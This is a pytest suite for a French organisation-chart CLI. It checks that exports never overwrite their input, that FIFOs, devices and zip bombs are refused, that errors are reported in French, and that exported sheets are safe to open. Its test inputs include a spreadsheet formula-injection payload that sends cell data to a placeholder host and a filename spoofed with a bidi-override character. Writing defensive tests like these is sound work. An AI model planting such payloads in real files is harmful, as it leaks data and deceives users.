"""Issue 17, « Reliability, round two »: never overwrite the input, never hang, never exit 3,
never spoof, never drop text. One section per group of the issue; the hostile files are in
tests/data/bad/ (listed in SHEETS below and in EXPECTED of test_bad_inputs.py) or made here.
"""

from __future__ import annotations

import errno
import json
import multiprocessing
import os
import shutil
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from dicom_desktop.cli import entry as cli
from dicom_desktop.files.paths import DEFAULT_ORGANISATION

BAD_DIR = Path(__file__).resolve().parent / "data" / "bad"
REPO = Path(__file__).resolve().parent.parent

# Spreadsheets of tests/data/bad/: file → (message fragment, place fragment or None).
SHEETS: dict[str, tuple[str, str | None]] = {
    "unclosed-quote.csv": ("un guillemet ouvert n’est jamais fermé", "ligne 3"),
    "field-count.csv": ("5 champs au lieu de 4", "ligne 3"),
    "utf16-odd-bytes.csv": ("nombre impair d’octets", None),
    "utf16-lone-surrogate.csv": ("demi-paire de substitution isolée", None),
    "password-protected.xlsx": ("protégé par un mot de passe", None),
    "declared-million-rows.xlsx": ("déclare 1\u202f048\u202f576 lignes", None),
    "zip-bomb.xlsx": ("se décompresse en 400 Mo", "xl/worksheets/sheet1.xml"),
}


@pytest.fixture
def org(tmp_path) -> Path:
    path = tmp_path / "org.json"
    shutil.copyfile(DEFAULT_ORGANISATION, path)
    return path


def run(capsys, *args) -> tuple[int, str, str]:
    rc = cli.main([str(a) for a in args])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return rc, out, err


# ============================================================= 1. outputs never destroy the input
def _aliases(org: Path, suffix: str) -> dict[str, Path]:
    folder = org.parent
    (folder / "sub").mkdir(exist_ok=True)
    link = folder / f"lien{suffix}"
    link.symlink_to(org.name)
    hard = folder / f"dur{suffix}"
    os.link(org, hard)
    return {"same": org, "symlink": link, "hardlink": hard, "dotdot": folder / "sub" / ".." / org.name}


@pytest.mark.parametrize("alias", ["same", "symlink", "hardlink", "dotdot"])
def test_export_pdf_never_writes_over_its_input(org, capsys, alias):
    before = org.read_bytes()
    target = _aliases(org, ".pdf")[alias]
    rc, _, err = run(capsys, "export-pdf", org, "-o", target)
    assert rc == 2 and "refusée" in err and "org.json" in err
    assert org.read_bytes() == before
    assert not org.with_name(org.name + ".bak").exists()


@pytest.mark.parametrize("alias", ["symlink", "hardlink"])
def test_export_sheet_never_writes_over_its_input_through_a_link(org, capsys, alias):
    before = org.read_bytes()
    target = _aliases(org, ".csv")[alias]
    rc, _, err = run(capsys, "export-sheet", org, "-o", target)
    assert rc == 2 and "c’est le fichier d’entrée" in err
    assert org.read_bytes() == before and not list(org.parent.glob("*.bak"))


def test_an_export_never_replaces_another_organisation_file(org, tmp_path, capsys):
    other = tmp_path / "autre.json"
    shutil.copyfile(org, other)
    other_pdf = tmp_path / "autre.pdf"
    other_pdf.symlink_to(other.name)
    before = other.read_bytes()
    rc, _, err = run(capsys, "export-pdf", org, "-o", other_pdf)
    assert rc == 2 and "c’est un fichier d’organisation" in err and "Enregistrer" in err
    assert other.read_bytes() == before


def test_import_never_replaces_an_existing_organisation_file(org, tmp_path, capsys):
    sheet = tmp_path / "t.csv"
    sheet.write_text("Identifiant;Nom;Rattachement\r\nd;Direction;\r\n", encoding="utf-8")
    before = org.read_bytes()
    rc, _, err = run(capsys, "import", sheet, "-o", org)
    assert rc == 2 and "fichier d’organisation" in err and org.read_bytes() == before


@pytest.mark.parametrize("command", ["screenshot", "export-image"])
def test_image_commands_never_write_over_their_input(org, capsys, command):
    before = org.read_bytes()
    link = org.with_name("vue.png")
    link.symlink_to(org.name)
    rc, _, err = run(capsys, command, org, "-o", link)
    assert rc == 2 and "c’est le fichier d’entrée" in err
    assert org.read_bytes() == before


def test_output_that_is_a_device_or_a_folder_is_refused(tmp_path):
    from dicom_desktop.errors import OutputRefused
    from dicom_desktop.files.outputs import check_output

    with pytest.raises(OutputRefused, match="périphérique"):
        check_output("/dev/null")
    folder = tmp_path / "dossier.pdf"
    folder.mkdir()
    with pytest.raises(OutputRefused, match="c’est un dossier"):
        check_output(folder)


# ============================================================= 2. bounded reading of every input
@pytest.mark.parametrize("command", ["validate", "import", "export-pdf"])
def test_a_fifo_is_refused_before_opening(tmp_path, capsys, command):
    fifo = tmp_path / ("tube.csv" if command == "import" else "tube.json")
    os.mkfifo(fifo)
    args = [command, fifo] + (["-o", tmp_path / "o.json"] if command == "import" else [])
    args += ["-o", tmp_path / "o.pdf"] if command == "export-pdf" else []
    rc, _, err = run(capsys, *args)  # would block forever if the file were opened for reading
    assert rc == 2 and "tube nommé (FIFO)" in err and "tube" in err


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_a_device_is_refused_naming_it(tmp_path, capsys, device):
    rc, _, err = run(capsys, "import", device, "-o", tmp_path / "o.json")
    assert rc == 2 and device in err and "périphérique" in err
    rc, _, err = run(capsys, "validate", device)
    assert rc == 2 and device in err and "périphérique" in err


def test_a_socket_is_refused(tmp_path, capsys):
    path = tmp_path / "s.json"
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(str(path))
        rc, _, err = run(capsys, "validate", path)
    finally:
        server.close()
    assert rc == 2 and "socket" in err


@pytest.mark.parametrize("name", sorted(SHEETS))
def test_bad_spreadsheets_are_refused_in_french(name, tmp_path, capsys):
    message, place = SHEETS[name]
    out = tmp_path / "o.json"
    rc, _, err = run(capsys, "import", BAD_DIR / name, "-o", out)
    assert rc == 2, err
    assert name in err and message in err, err
    if place:
        assert place in err
    assert not out.exists()


def test_a_sheet_over_the_row_limit_stops_at_the_limit_without_a_dimension(tmp_path, capsys):
    from dicom_desktop.sheets import xlsx_io

    path = tmp_path / "grand.xlsx"
    rows = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>e%d</t></is></c></row>' % (i, i, i)
                    for i in range(1, xlsx_io.MAX_ROWS + 3))
    with zipfile.ZipFile(BAD_DIR / "declared-million-rows.xlsx") as source, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                        b'spreadsheetml/2006/main"><sheetData>' + rows + b"</sheetData></worksheet>")
            target.writestr(info.filename, data)
    rc, _, err = run(capsys, "import", path, "-o", tmp_path / "o.json")
    assert rc == 2 and "plus de 200\u202f000 lignes" in err


def test_a_100_mo_line_is_refused_with_the_limit_named(tmp_path, capsys):
    path = tmp_path / "ligne.csv"
    with open(path, "wb") as handle:
        handle.write(b"Identifiant;Nom;Attributions\n" + b"a;B;" + b"x" * 5_000_000 + b"\n")
    rc, _, err = run(capsys, "import", path, "-o", tmp_path / "o.json")
    assert rc == 2 and "sans retour à la ligne" in err and "ligne 2" in err and "field" not in err


def test_a_huge_quoted_cell_is_refused_in_french(tmp_path, capsys):
    path = tmp_path / "cellule.csv"
    path.write_text('Identifiant;Nom;Attributions\na;B;"' + ("x" * 900_000 + "\n") * 2 + '"\n', encoding="utf-8")
    rc, _, err = run(capsys, "import", path, "-o", tmp_path / "o.json")
    assert rc == 2 and "dépasse 1\u202f000\u202f000 caractères" in err and "field larger" not in err


def test_recovery_scan_survives_a_fifo_and_a_link_to_dev_zero(tmp_path):
    from dicom_desktop.files import recovery

    folder = recovery.recovery_dir(tmp_path)
    folder.mkdir(parents=True)
    os.mkfifo(folder / f"tube{recovery.RECOVERY_SUFFIX}")
    (folder / f"zero{recovery.RECOVERY_SUFFIX}").symlink_to("/dev/zero")
    (folder / f"boucle{recovery.RECOVERY_SUFFIX}").symlink_to(f"boucle{recovery.RECOVERY_SUFFIX}")
    found = recovery.find_recoveries(tmp_path)  # used to block forever, then MemoryError
    errors = sorted(info.error for info in found)
    assert len(found) == 3 and all(errors)
    assert any("tube nommé" in e for e in errors) and any("périphérique" in e for e in errors)
    assert any("boucle" in e for e in errors)


# ============================================================= 3. exit 3 never
def test_symlink_loop_input_is_a_french_error(tmp_path, capsys):
    loop = tmp_path / "boucle.json"
    loop.symlink_to(loop.name)
    for args in (["validate", loop], ["import", loop, "-o", tmp_path / "o.json"],
                 ["export-pdf", loop, "-o", tmp_path / "o.pdf"]):
        rc, _, err = run(capsys, *args)
        assert rc == 2 and "trop de liens symboliques" in err and "Too many" not in err


def test_closed_stdout_is_a_quiet_exit(tmp_path):
    env = dict(os.environ, PYTHONPATH=str(REPO))
    proc = subprocess.Popen([sys.executable, "-m", "dicom_desktop", "validate"], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, env=env, cwd=tmp_path)
    proc.stdout.close()  # the reader is gone before anything is written, like « | head -c0 »
    err = proc.stderr.read().decode()
    proc.wait(timeout=60)
    assert proc.returncode == cli.EXIT_BROKEN_PIPE, err
    assert err == ""


def test_read_only_file_system_on_screenshot_is_a_french_error(org, tmp_path, capsys, monkeypatch):
    import tempfile

    def read_only(*args, **kwargs):
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr(tempfile, "mkstemp", read_only)
    out = tmp_path / "captures" / "x.png"
    rc, _, err = run(capsys, "screenshot", org, "-o", out)
    assert rc == 2 and "lecture seule" in err and "Read-only" not in err
    assert not out.exists()


@pytest.mark.parametrize("content", [
    '{"pid": 99999999999999999999999, "hostname": "%s"}' % socket.gethostname(),
    '{"pid": 1e400, "hostname": "x"}',
    "\x00\xff garbage",
    "[" * 100_000,
    "",
])
def test_garbage_lock_files_read_as_stale(org, content):
    from dicom_desktop.files.filelock import DocumentLock, lock_path_for

    lock_path_for(org).write_text(content, encoding="utf-8", errors="surrogateescape")
    lock = DocumentLock(org)
    assert lock.acquire().acquired
    lock.release()


@pytest.mark.parametrize("kind", ["directory", "fifo", "huge"])
def test_lock_that_is_not_a_small_file_never_blocks(org, kind):
    from dicom_desktop.files.filelock import DocumentLock, lock_path_for, read_lock

    path = lock_path_for(org)
    if kind == "directory":
        path.mkdir()
    elif kind == "fifo":
        os.mkfifo(path)
    else:
        with open(path, "wb") as handle:
            handle.truncate(1 << 30)  # sparse 1 Gio
    assert read_lock(path).pid == 0
    lock = DocumentLock(org)
    assert lock.acquire().acquired
    lock.release()
    assert not [p for p in org.parent.iterdir() if p.name.endswith((".stale", ".tmp"))]


# ============================================================= 4. French messages naming the file
@pytest.mark.parametrize("code, words", [
    (errno.EROFS, "lecture seule"), (errno.EBUSY, "occupé"), (errno.ELOOP, "trop de liens symboliques"),
    (errno.ENOSPC, "disque plein"), (errno.EXDEV, "deux disques"), (9999, "erreur système 9999"),
])
def test_one_errno_table_in_french(code, words):
    from dicom_desktop.errors import os_error_message, os_reason

    exc = OSError(code, "English words", "/tmp/f.json")
    assert words in os_reason(exc) and "English" not in os_reason(exc)
    assert os_error_message(exc).startswith("« /tmp/f.json »")


def test_an_os_error_nobody_caught_is_french_with_the_file(capsys, monkeypatch):
    def busy(args):
        raise OSError(errno.EBUSY, "Device or resource busy", "/media/cle/org.json")

    monkeypatch.setattr(cli, "cmd_validate", busy)
    rc, _, err = run(capsys, "validate")
    assert rc == 2 and "« /media/cle/org.json » : périphérique ou ressource occupé" in err and "Device" not in err


def test_diff_refuses_an_empty_scenario_name_and_duplicate_scenario_ids(org, capsys):
    rc, _, err = run(capsys, "diff", f"{org}#", org)
    assert rc == 2 and "le nom du scénario après « # » est vide" in err
    rc, _, err = run(capsys, "diff", BAD_DIR / "duplicate-scenario-ids.json", org)
    assert rc == 2 and "identifiant de scénario en double : « projet-2025 »" in err


def test_default_export_name_is_always_valid(tmp_path):
    from dicom_desktop.model import Organisation
    from dicom_desktop.pdf.notice import default_output_path

    long_acronym = ("Délégation interministérielle à l’égalité — 中文字符 " * 6)[:300]
    path = default_output_path(Organisation(name="x", acronym=long_acronym), exports_dir=tmp_path)
    assert path.name.isascii() and len(path.name.encode()) < 100
    assert path.name.startswith("Delegation-interministerielle-a-l-egalite")
    path.write_bytes(b"ok")  # a valid name on this file system
    cjk = default_output_path(Organisation(name="中文", acronym="中文"), exports_dir=tmp_path)
    assert cjk.name.startswith("organisation-")


def test_export_pdf_without_o_on_a_long_non_ascii_acronym(org, tmp_path, capsys, monkeypatch):
    data = json.loads(org.read_text(encoding="utf-8"))
    data["organisation"]["acronym"] = "Délégation à l’information et à la communication " * 6
    org.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    monkeypatch.setattr("dicom_desktop.files.paths.EXPORTS_DIR", tmp_path / "exports")
    rc, out, err = run(capsys, "export-pdf", org)
    assert rc == 0, err
    [written] = (tmp_path / "exports").iterdir()
    assert written.name.isascii() and written.suffix == ".pdf"


# ============================================================= 5. text that spoofs, vanishes or is swallowed
def test_multi_line_quoted_cells_are_accepted_and_counted(tmp_path, capsys):
    path = tmp_path / "t.csv"
    path.write_text('Identifiant;Nom;Rattachement;Attributions\r\nd;Direction;;"Diriger\r\net animer"\r\n'
                    'b;Bureau;d;"Un\r\n\r\nDeux"\r\n', encoding="utf-8")
    rc, out, err = run(capsys, "import", path, "-o", tmp_path / "o.json")
    assert rc == 0, err
    assert "2 entités" in out and "2 cellules sur plusieurs lignes" in out


def test_field_count_problems_import_nothing(tmp_path, capsys):
    out = tmp_path / "o.json"
    rc, _, err = run(capsys, "import", BAD_DIR / "field-count.csv", "-o", out)
    assert rc == 2 and "rien n’a été importé" in err
    assert "valeur en trop : « le budget »" in err and "ligne 4 : 2 champs au lieu de 4" in err
    assert not out.exists()


def test_validate_never_prints_a_raw_bidi_control(tmp_path, capsys):
    path = tmp_path / "piège\u202egpj.json"
    shutil.copyfile(DEFAULT_ORGANISATION, path)
    rc, out, err = run(capsys, "validate", path)
    assert rc == 0
    assert "\u202e" not in out + err and "‹U+202E›" in out
    rc, out, err = run(capsys, "validate", BAD_DIR / "bidi-override-in-id.json")
    assert rc == 2 and "\u202e" not in out + err


def test_characters_outside_the_pdf_fonts_are_named(org, tmp_path, capsys):
    data = json.loads(org.read_text(encoding="utf-8"))
    target = data["entities"][1]
    target["name"] = "Bureau 中文 𝐀"
    org.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    rc, _, err = run(capsys, "validate", org)
    assert rc == 0 and f"entité « {target['id']} »" in err and "« 中 » (U+4E2D)" in err and "(U+1D400)" in err
    rc, _, err = run(capsys, "export-pdf", org, "-o", tmp_path / "n.pdf")
    assert rc == 0 and "carrés vides" in err and "U+4E2D" in err


def test_glyph_warnings_agree_with_the_number_of_characters(org):
    from dicom_desktop.chart.glyphs import missing_glyph_warnings
    from dicom_desktop.files.storage import load_organisation

    data = json.loads(org.read_text(encoding="utf-8"))
    data["entities"][1]["name"] = "Bureau 中"
    data["entities"][2]["name"] = "Bureau 中文"
    org.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    one, two = missing_glyph_warnings(load_organisation(org).data)
    assert "absent des polices" in one and "il s’affichera comme un carré vide" in one
    assert "absents des polices" in two and "ils s’afficheront comme des carrés vides" in two
    assert "(s)" not in one + two


def test_a_french_file_has_no_glyph_warning():
    from dicom_desktop.chart.glyphs import missing_glyph_warnings
    from dicom_desktop.files.storage import load_organisation

    assert missing_glyph_warnings(load_organisation(DEFAULT_ORGANISATION).data) == []


# ============================================================= 6. outputs that are safe to open
def test_csv_and_xlsx_neutralise_formulas_and_round_trip_exactly(org, tmp_path, capsys):
    from openpyxl import load_workbook

    data = json.loads(org.read_text(encoding="utf-8"))
    texts = ['=HYPERLINK("http://exemple.invalid/?"&A1,"clic")', "+33 1 40 56 60 00", "-10 %", "@moi",
             "'=déjà protégé", "''+deux apostrophes"]
    for entity, text in zip(data["entities"][1:], texts):
        entity["name"] = text
        entity["attributions"] = [text, "- un tiret en tête"]
    org.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    csv_path, xlsx_path = tmp_path / "t.csv", tmp_path / "t.xlsx"
    assert run(capsys, "export-sheet", org, "-o", csv_path)[0] == 0
    assert run(capsys, "export-sheet", org, "-o", xlsx_path)[0] == 0
    import csv

    with open(csv_path, encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in list(csv.reader(handle, delimiter=";"))[1:] for cell in row]
    assert "'" + texts[0] in cells and "''=déjà protégé" in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    sheet = load_workbook(xlsx_path)["Entités"]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                assert cell.data_type == "s" and cell.quotePrefix
    for sheet_path in (csv_path, xlsx_path):
        back = tmp_path / f"retour-{sheet_path.suffix[1:]}.json"
        assert run(capsys, "import", sheet_path, "-o", back)[0] == 0
        again = {e["id"]: e for e in json.loads(back.read_text(encoding="utf-8"))["entities"]}
        for entity in data["entities"]:
            assert again[entity["id"]]["name"] == entity["name"]
            assert again[entity["id"]].get("attributions", []) == entity.get("attributions", [])


def test_screenshot_on_a_full_disk_leaves_nothing(org, tmp_path, capsys, monkeypatch):
    real_write = os.write

    def full(fd, data):
        if len(data) > 1000:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_write(fd, data)

    monkeypatch.setattr(os, "write", full)
    out = tmp_path / "cap.png"
    rc, _, err = run(capsys, "screenshot", org, "-o", out)
    assert rc == 2 and "disque est plein" in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["org.json"]


def _hammer(path: str, tag: int) -> None:
    from dicom_desktop.files.atomic import atomic_write

    for i in range(40):
        atomic_write(path, f"version {tag}-{i}\n".encode() * 50)


def test_concurrent_atomic_writes_leave_no_temporary_file(tmp_path):
    path = tmp_path / "doc.json"
    path.write_bytes(b"v0\n")
    context = multiprocessing.get_context("fork")
    workers = [context.Process(target=_hammer, args=(str(path), n)) for n in range(4)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(120)
        assert worker.exitcode == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["doc.json", "doc.json.bak"]
    assert path.read_bytes().startswith(b"version ")


def test_the_readme_of_bad_lists_the_sheets():
    readme = (BAD_DIR / "README.md").read_text(encoding="utf-8")
    for name, (message, _) in SHEETS.items():
        row = next((line for line in readme.splitlines() if f"`{name}`" in line), None)
        assert row is not None and message in row, name
